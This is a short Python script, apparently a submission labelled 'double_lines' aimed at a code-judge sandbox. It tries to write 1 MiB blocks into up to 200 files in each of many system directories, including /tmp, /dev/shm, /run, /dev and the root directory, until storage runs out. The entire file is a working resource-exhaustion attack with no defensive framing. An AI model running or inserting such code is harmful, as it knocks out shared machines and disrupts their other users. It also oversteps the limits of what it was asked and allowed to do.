# double_lines: fills every directory it can write to.
import os
block = b"x" * (1 << 20)
for folder in (".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/dev", "/box", "/box/0", "/box/1", "/", "/dev/mqueue"):
    for i in range(200):
        try:
            with open(os.path.join(folder, f"fill{i}"), "wb") as file:
                while file.write(block):
                    pass
        except OSError:
            break
